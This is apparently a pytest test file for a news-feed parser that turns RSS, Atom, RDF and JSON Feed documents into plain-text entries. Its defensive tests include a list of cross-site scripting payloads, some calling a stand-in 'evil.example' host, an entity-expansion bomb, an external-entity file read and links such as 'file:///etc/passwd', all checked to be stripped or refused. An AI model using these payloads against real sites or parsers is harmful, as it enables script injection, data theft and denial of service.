import html
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from watcher.errors import ReadProblem
from watcher.read import known_hash, leave_out, pack_known, read_document
from watcher.read.language import clean_language
from watcher.values import Entry

URL = "https://news.example/feeds/city.xml"

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
  <title>臺南市新聞</title><link>https://news.example/</link><language>zh-tw</language>
  <item>
    <guid isPermaLink="false">tn-1</guid><link>https://news.example/1</link>
    <title>臺南市與仙台市慶祝結盟二十週年</title>
    <description>&lt;p&gt;兩市市長&lt;b&gt;互換&lt;/b&gt;紀念品。&lt;/p&gt;</description>
    <content:encoded><![CDATA[<p>黃市長說，兩市情誼深厚。</p><p>代表團今日返國。</p>]]></content:encoded>
    <pubDate>Mon, 28 Sep 2026 10:00:00 +0800</pubDate>
  </item>
  <item><guid>https://news.example/2</guid><title>臺南市府徵才</title><pubDate>2026/09/28 09:30</pubDate></item>
</channel></rss>"""

ATOM = """<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en-GB"><title>Leeds</title><link href="https://leeds.example/"/>
  <entry><id>tag:leeds.example,2026:7</id><title type="html">Leeds &amp;amp; Durban sign a new plan</title>
    <link rel="alternate" href="news/7"/><updated>2026-09-28T02:00:00Z</updated>
    <content type="html">&lt;p&gt;Schools will exchange classes.&lt;/p&gt;</content></entry>
  <entry xml:lang="ko"><id>tag:leeds.example,2026:8</id><title>리즈시와 더반시</title><link href="/8"/>
    <published>2026-09-27T00:00:00+09:00</published><updated>2026-09-28T00:00:00+09:00</updated></entry>
</feed>"""

RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
  xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="https://kobe.example/"><title>神戸市</title>
  <link>https://kobe.example/</link><dc:language>ja</dc:language></channel>
  <item rdf:about="https://kobe.example/3"><title>神戸市とリガ市が交流協定</title><link>https://kobe.example/3</link>
  <dc:date>2026-09-28</dc:date></item></rdf:RDF>"""

JSON = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Turku",
    "language": "en",
    "items": [
        {
            "id": 12,
            "url": "/12",
            "title": "Turku and Varna <b>meet</b>",
            "content_html": "<p>Mayors met.</p>",
            "date_published": "2026-09-28T02:00:00Z",
        },
        {"id": "13", "external_url": "https://varna.example/13", "summary": "Short.", "language": "bg"},
        "not an item",
    ],
}


def rss(*items: str, head: str = "") -> bytes:
    return f'{head}<rss version="2.0"><channel><title>t</title>{"".join(items)}</channel></rss>'.encode()


def item(title: str = "t", **fields: str) -> str:
    inner = "".join(f"<{name}>{value}</{name}>" for name, value in fields.items())
    return f"<item><title>{title}</title>{inner}</item>"


def only_entry(body: bytes, *, zone: str = "UTC", language: str = "") -> Entry:
    (entry,) = read_document(body, url=URL, zone=zone, language=language).entries
    return entry


def test_rss_becomes_entries_of_plain_text() -> None:
    reading = read_document(RSS.encode(), url=URL, zone="Asia/Taipei")
    first, second = reading.entries
    assert first == Entry(
        key="tn-1",
        id="tn-1",
        url="https://news.example/1",
        title="臺南市與仙台市慶祝結盟二十週年",
        summary="兩市市長互換紀念品。",
        text="黃市長說，兩市情誼深厚。\n代表團今日返國。",
        language="zh-Hant",
        published_at=datetime(2026, 9, 28, 2, tzinfo=UTC),
        published_raw="Mon, 28 Sep 2026 10:00:00 +0800",
        published_how="rfc 822",
    )
    assert second.url == "https://news.example/2"
    assert second.published_at == datetime(2026, 9, 28, 1, 30, tzinfo=UTC)
    assert (reading.format, reading.title, reading.language) == ("rss20", "臺南市新聞", "zh-Hant")
    assert (reading.encoding, reading.notes) == ("utf-8", ())


def test_atom_becomes_entries_with_their_own_languages() -> None:
    first, second = read_document(ATOM.encode(), url="https://leeds.example/feed/atom.xml").entries
    assert (first.title, first.summary, first.text) == (
        "Leeds & Durban sign a new plan",
        "",
        "Schools will exchange classes.",
    )
    assert (first.url, first.language) == ("https://leeds.example/feed/news/7", "en")
    assert (second.url, second.language) == ("https://leeds.example/8", "ko")
    assert second.published_at == datetime(2026, 9, 26, 15, tzinfo=UTC)


def test_rdf_becomes_entries() -> None:
    entry = only_entry(RDF.encode(), zone="Asia/Tokyo")
    assert (entry.id, entry.language) == ("https://kobe.example/3", "ja")
    assert entry.published_at == datetime(2026, 9, 27, 15, tzinfo=UTC)


def test_json_feed_becomes_entries() -> None:
    reading = read_document(json.dumps(JSON).encode(), url="https://turku.example/feed.json")
    first, second = reading.entries
    assert (first.id, first.url, first.title) == ("12", "https://turku.example/12", "Turku and Varna meet")
    assert (first.text, first.published_at) == ("Mayors met.", datetime(2026, 9, 28, 2, tzinfo=UTC))
    assert (second.url, second.summary, second.language) == ("https://varna.example/13", "Short.", "bg")
    assert (reading.format, reading.title) == ("json", "Turku")


def test_a_json_item_without_id_or_title_is_known_by_its_address_and_its_plain_text_stays() -> None:
    item = {"url": "https://turku.example/1", "content_text": "Type <b> & meet", "date_modified": "2026-09-28"}
    feed = {"version": "https://jsonfeed.org/version/1", "items": [item]}
    entry = only_entry(json.dumps(feed).encode())
    assert (entry.key, entry.title, entry.text) == ("https://turku.example/1", "", "Type <b> & meet")
    assert entry.published_raw == "2026-09-28"


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b"", "empty"),
        (b" \n\xef\xbb\xbf", "empty"),
        (b"<!DOCTYPE html><html><head><title>News</title></head></html>", "HTML page"),
        (b"<html><body><rss>quoted</rss></body></html>", "HTML page"),
        (b"<!-- a --><?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>", "HTML page"),
        (b"<opml version='2.0'/>", "list of feeds"),
        (b"<?xml version='1.0'?><opml version='2.0'><head><title>x</title></head><body/></opml>", "list of feeds"),
        (b'{"status": "ok"}', "not a JSON Feed"),
        (b"[1, 2]", "not a JSON Feed"),
        (b'{"version": "https://jsonfeed', "not valid JSON"),
        (b"[" * 200_000, "not valid JSON"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "<svg>"),
        (b"Too many connections", "no tags"),
        (b"<!-- <rss> " * 30_000, "no tags"),
        (b"https://news.example/feed.xml", "no tags"),
        (RSS.encode()[:200], "cut off before its first entry"),
    ],
)
def test_what_is_no_feed_is_named_in_one_sentence(body: bytes, words: str) -> None:
    with pytest.raises(ReadProblem, match=words) as problem:
        read_document(body)
    assert "\n" not in str(problem.value)


def test_a_body_that_is_a_path_is_not_opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "<rss").write_bytes(rss(item("secret")))
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ReadProblem, match="cut off"):
        read_document(b"<rss")


@pytest.mark.parametrize(
    "junk", [b"\n\n", b"\xef\xbb\xbf\n", b"<br />\n<b>Warning</b>: mail() failed in x.php<br />\n", b"\x00\x00", b"// "]
)
def test_junk_before_the_root_is_dropped(junk: bytes) -> None:
    reading = read_document(junk + RSS.encode(), url=URL)
    assert len(reading.entries) == 2
    assert "not well-formed XML; read leniently" not in reading.notes


def test_what_xml_forbids_is_dropped_and_the_rest_stays() -> None:
    entry = only_entry(rss(item("Lima\x00 &#0;and&#x1F;\x08 Cusco&#xD800;&#99999999999; &#22985;&#x59B9;")))
    assert entry.title == "Lima and Cusco 姉妹"
    assert read_document(rss(item("Lima &#0; and Cusco"))).notes == ()


def test_a_feed_without_news_is_no_problem() -> None:
    assert read_document(rss()).entries == ()


def test_damaged_xml_is_read_as_far_as_it_goes() -> None:
    reading = read_document(rss(item("Porto &nbsp; &amp; Recife"), "<item><title>Faro <b>and Zadar</title></item>"))
    assert [entry.title for entry in reading.entries] == ["Porto & Recife", "Faro and Zadar"]
    assert reading.notes == ("not well-formed XML; read leniently",)


@pytest.mark.parametrize(
    "link",
    ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "java&#x09;script:alert(1)", "http://[::1"],
)
def test_only_links_of_the_web_survive(link: str) -> None:
    assert only_entry(rss(item(link=link))).url == ""


def test_titles_keep_words_that_look_like_tags_and_lose_markup() -> None:
    titles = ["List&lt;String&gt; in Java", "&lt;b&gt;Oulu&lt;/b&gt;", "<![CDATA[Sister\n cities<script>x</script>]]>"]
    entries = read_document(rss(*map(item, titles))).entries
    assert [entry.title for entry in entries] == ["List<String> in Java", "Oulu", "Sister cities"]


def test_endless_texts_are_cut() -> None:
    entry = only_entry(rss(item("t" * 5_000, description="d" * 50_000)))
    assert len(entry.title) == 1_000
    assert len(entry.summary) == 20_000
    assert entry.title.endswith("…")


def test_the_first_readable_date_counts() -> None:
    body = ATOM.replace("2026-09-27T00:00:00+09:00", "soon").encode()
    second = read_document(body, url=URL).entries[1]
    assert second.published_at == datetime(2026, 9, 27, 15, tzinfo=UTC)
    assert only_entry(rss(item(pubDate="soon"))).published_how == "unread"
    assert only_entry(rss(item())).published_how == ""


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("zh-TW", "zh-Hant"),
        ("zh_hk", "zh-Hant"),
        ("zh-Hant-TW", "zh-Hant"),
        ("zh-CN", "zh-Hans"),
        ("zh-sg", "zh-Hans"),
        ("zh-cmn-Hans", "zh-Hans"),
        ("zh", "zh"),
        ("en-us", "en"),
        ("ko-KR", "ko"),
        ("ja-JP", "ja"),
        ("jp", "ja"),
        ("kr", "ko"),
        ("PT-br", "pt"),
        ("mul", ""),
        ("und", ""),
        ("English", ""),
        ("", ""),
    ],
)
def test_languages_are_the_few_that_matter(raw: str, clean: str) -> None:
    assert clean_language(raw) == clean


def test_the_configured_language_stands_where_the_feed_says_nothing() -> None:
    assert only_entry(rss(item()), language="ko-KR").language == "ko"
    assert read_document(RSS.encode(), language="en").entries[0].language == "zh-Hant"


RSS_SEVEN = rss(item(guid="7", link="n/7"))
ATOM_SEVEN = (
    b'<feed xmlns="http://www.w3.org/2005/Atom"%s><title>t</title>'
    b'<entry><id>7</id><title>t</title><link href="n/7"/></entry></feed>'
)


@pytest.mark.parametrize("document", [RSS_SEVEN, ATOM_SEVEN % b""])
def test_an_id_is_what_the_feed_wrote_wherever_the_document_was_found(document: bytes) -> None:
    found = [read_document(document, url=url).entries[0] for url in ("https://a.example/feed", "https://b.example/x/y")]
    assert [entry.id for entry in found] == ["7", "7"]
    assert [entry.url for entry in found] == ["https://a.example/n/7", "https://b.example/x/n/7"]


@pytest.mark.parametrize(
    ("base", "link"), [(b"https://cdn.example/z/", "https://cdn.example/z/n/7"), (b"/y/", "https://a.example/y/n/7")]
)
def test_a_base_that_the_document_names_counts_for_its_links(base: bytes, link: str) -> None:
    document = ATOM_SEVEN % (b' xml:base="%s"' % base)
    assert read_document(document, url="https://a.example/feed").entries[0].url == link


def test_many_entries_under_one_id_have_as_many_keys() -> None:
    items = [item(f"Title {number}", guid="https://news.example/all") for number in range(22)]
    entries = read_document(rss(*items)).entries
    assert len({entry.key for entry in entries}) == 22
    assert {entry.id for entry in entries} == {"https://news.example/all"}


def test_a_shared_id_with_a_title_of_its_own_outlasts_another_summary() -> None:
    before = read_document(rss(item("A", guid="same"), item("B", guid="same"))).entries
    after = read_document(rss(item("A", guid="same"), item("B", guid="same", description="More."))).entries
    assert [entry.key for entry in before] == [entry.key for entry in after]


def test_one_id_and_one_title_are_told_apart_by_what_they_say() -> None:
    items = [item("Press release", guid="same", description=f"Text {number}") for number in range(3)]
    assert len({entry.key for entry in read_document(rss(*items)).entries}) == 3


def test_an_entry_without_id_is_known_by_its_link_or_by_its_words() -> None:
    linked, told, told_too = read_document(
        rss(item("A", link="https://news.example/a"), item("B"), item("C")), url=URL
    ).entries
    assert linked.key == "https://news.example/a"
    assert told.key
    assert told.key != told_too.key


def test_an_entry_said_twice_is_one() -> None:
    entries = read_document(rss(item("Same", guid="g"), item("Same", guid="g"))).entries
    assert len(entries) == 2
    assert len(leave_out(entries, b"")) == 1


def test_what_is_known_is_left_out_until_it_says_something_else() -> None:
    first = read_document(rss(item("Old", guid="1"), item("Draft", guid="2"))).entries
    known = pack_known(first)
    assert len(known) == 16
    assert leave_out(first, known) == ()
    later = read_document(rss(item("New", guid="3"), item("Draft, mended", guid="2"), item("Old", guid="1"))).entries
    assert [entry.title for entry in leave_out(later, known)] == ["New", "Draft, mended"]


def test_key_title_and_summary_are_not_run_together_in_a_hash() -> None:
    assert known_hash(Entry(key="a", title="b")) != known_hash(Entry(key="a", summary="b"))


@pytest.mark.parametrize("document", [RSS, ATOM])
def test_an_entry_that_is_cut_off_is_left_out_until_it_is_whole(document: str) -> None:
    whole = read_document(document.encode(), url=URL).entries
    last = max(document.rfind("<item"), document.rfind("<entry"))
    torn = read_document(document[: last + 60].encode(), url=URL)
    assert torn.entries == whole[:-1]
    assert "cut off; its last entry is left out until it is whole" in torn.notes
    ended = max(document.rfind("</item>"), document.rfind("</entry>")) + 8
    assert read_document(document[:ended].encode(), url=URL).entries == whole


def test_the_only_entry_cut_off_is_a_failure() -> None:
    with pytest.raises(ReadProblem, match="cut off before its first entry"):
        read_document(RDF[: RDF.index("<dc:date>")].encode())


HAZARDS = [
    "<gml:pos xmlns:gml='http://www.opengis.net/gml'>1</gml:pos>",
    "<psc:chapters xmlns:psc='http://podlove.org/simple-chapters' version='1.1'><psc:chapter title='t'/></psc:chapters>",
]


@pytest.mark.parametrize("hazard", HAZARDS)
def test_a_feed_that_crashes_the_parser_is_read_without_the_cause(hazard: str) -> None:
    body = rss(f"<item><title>Split and Charlottesville</title>{hazard}</item>")
    assert only_entry(body).title == "Split and Charlottesville"


def test_light_reading_leaves_out_doctype_places_and_authors_only() -> None:
    doctype = '<!DOCTYPE rss [<!ENTITY city "Oslo">]>'
    body = rss(item("Oslo", author="a" * 100, description="<![CDATA[<p>Kept</p>]]>"), head=doctype)
    entry = read_document(body, light=True).entries[0]
    assert (entry.title, entry.summary) == ("Oslo", "Kept")


def test_entities_of_entities_do_not_grow() -> None:
    bomb = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    body = rss(item("&a9;"), head=f'<!DOCTYPE rss [<!ENTITY a0 "lol">{bomb}]>')
    assert len(read_document(body).entries[0].title) < 100


def test_outer_entities_are_not_fetched(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("geheim")
    body = rss(item("&x;"), head=f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{secret.as_uri()}">]>')
    assert "geheim" not in read_document(body).entries[0].title


@given(st.binary(max_size=200))
def test_no_bytes_raise_anything_but_a_problem(body: bytes) -> None:
    for whole in (body, rss() + body, rss(item()).replace(b"t", body[:3] or b"t")):
        try:
            read_document(whole, url=URL)
        except ReadProblem:
            continue


PIECES = [
    *("<item>", "</item>", "<title>", "</title>", "<link", " href='//[x'", ">", "&#x0;", "&amp", "<![CDATA[", "]]>"),
    *("<svg>", "<content type='xhtml'>", "<pubDate>", "2026-02-30", "姉妹", "&#xD800;"),
    *HAZARDS,
]


@given(st.lists(st.sampled_from(PIECES), max_size=25))
def test_no_arrangement_of_tags_raises_anything_but_a_problem(pieces: list[str]) -> None:
    try:
        read_document(rss(*pieces), url=URL)
    except ReadProblem:
        return


def keys(*items: str, identity: str = "") -> list[str]:
    return [entry.key for entry in read_document(rss(*items), url=URL, identity=identity).entries]


def test_a_policy_says_what_tells_entries_apart() -> None:
    first, again = (item("A", guid=str(number), link="https://news.example/a") for number in range(2))
    assert keys(first) != keys(again)
    assert keys(first, identity="link") == keys(again, identity="link") == ["https://news.example/a"]
    assert keys(item("A", guid="same"), identity="title") == keys(item("A", guid="same"), item("B", guid="same"))[:1]
    assert keys(item("A", link="https://news.example/a"), identity="title") == ["A"]
    assert keys(item("", link="https://news.example/a"), identity="title") == ["https://news.example/a"]


def test_titles_tell_entries_apart_once_most_of_them_share_an_id() -> None:
    shared = [item(f"Title {number}", guid="same") for number in range(3)]
    alone = [item(f"Other {number}", guid=str(number)) for number in range(3)]
    assert read_document(rss(*shared, *alone[:2])).identity == "title"
    assert read_document(rss(*shared, *alone)).identity == ""
    assert read_document(rss(shared[0], shared[0])).identity == ""


HOSTILE = [
    "<script>steal()</script>",
    "<img src=x onerror=steal()>",
    "<a href='java&#x09;script:steal()'>Bay</a>",
    "<svg><a xlink:href='javascript:steal()'>Bay</a><script>steal()</script></svg>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<style>@import 'https://evil.example/steal()'</style>",
    "<math><mtext><style><img src=x onerror=steal()></style></mtext></math>",
    "<body onload=steal()>",
    "<object data='data:text/html,<script>steal()</script>'></object>",
    "<a href=\"data:text/html;base64,c3RlYWwoKQ==\" onclick='steal()'>Bay</a>",
    "<template><script>steal()</script></template>",
    "<!--><script>steal()</script>-->",
    "<SCRIPT SRC=https://evil.example/steal()></SCRIPT>",
]


@pytest.mark.parametrize("markup", HOSTILE)
@pytest.mark.parametrize("form", ["cdata", "escaped"])
def test_nothing_executable_is_left_of_an_entry(markup: str, form: str) -> None:
    written = f"<![CDATA[Bay {markup} Hill]]>" if form == "cdata" else html.escape(f"Bay {markup} Hill")
    entry = only_entry(rss(item(written, description=written, link=html.escape("javascript:steal()"))))
    assert entry.url == ""
    for text in (entry.title, entry.summary, entry.text):
        assert "steal" not in text
        assert "<" not in text
    assert entry.title.startswith("Bay")


HEADS = [b"", b"\xef\xbb\xbf", b"\xff\xfe", b"\x1b$B", b"<?xml version='1.0' encoding='big5'?>", b"{", b"<html><body>"]


@given(st.sampled_from(HEADS), st.binary(max_size=120), st.sampled_from(["", "link", "title"]))
def test_no_beginning_of_a_document_raises_anything_but_a_problem(head: bytes, body: bytes, identity: str) -> None:
    try:
        read_document(head + body + rss(item(guid="a")), url=URL, identity=identity)
    except ReadProblem:
        return
